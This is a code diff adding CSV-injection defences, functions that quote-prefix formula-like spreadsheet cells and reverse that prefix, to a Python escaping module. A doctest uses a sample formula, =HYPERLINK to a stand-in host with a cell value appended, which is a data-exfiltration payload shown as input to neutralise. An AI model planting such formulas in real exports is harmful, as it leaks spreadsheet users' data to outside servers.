@@ -46,8 +46,10 @@ __all__ = [
     "html_text",
     "isolated",
     "json_text",
+    "neutralised",
     "plain",
     "unisolated",
+    "unneutralised",
 ]
 
 #: What :func:`plain` puts in place of a character that must not reach output.
@@ -223,3 +225,30 @@ def escape_json(text: str, *, embeddable: bool = False) -> str:
     if not embeddable and text.isascii() and "\x7f" not in text:
         return text  # the common case, checked at C speed: DEL is the one ASCII character to escape
     return (_EMBED_UNSAFE if embeddable else _JSON_UNSAFE).sub(_escaped, text)
+
+
+# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV Injection"); after any
+# number of single quotes too, so that a quote added here can always be told from one that was there.
+_FORMULA = re.compile("'*[=+\\-@\t\r]")
+_QUOTED_FORMULA = re.compile("'+[=+\\-@\t\r]")
+
+
+def neutralised(cell: str) -> str:
+    """*cell* as a spreadsheet shows it and never runs it: a single quote before a leading ``=``, ``+``, ``-``,
+    ``@``, tab or carriage return (as OWASP advises), and before one more quote than a cell that had them.
+
+    :func:`unneutralised` gives back *cell* exactly.
+
+    >>> neutralised('=HYPERLINK("http://x.example/"&A1,"click")')[:12], neutralised("'=1"), neutralised("Ada")
+    ("'=HYPERLINK(", "''=1", 'Ada')
+    """
+    return "'" + cell if _FORMULA.match(cell) else cell
+
+
+def unneutralised(cell: str) -> str:
+    """*cell* as it was before :func:`neutralised`.
+
+    >>> unneutralised("'@SUM(1+1)"), unneutralised("''=1"), unneutralised("'quoted")
+    ('@SUM(1+1)', "'=1", "'quoted")
+    """
+    return cell[1:] if _QUOTED_FORMULA.match(cell) else cell
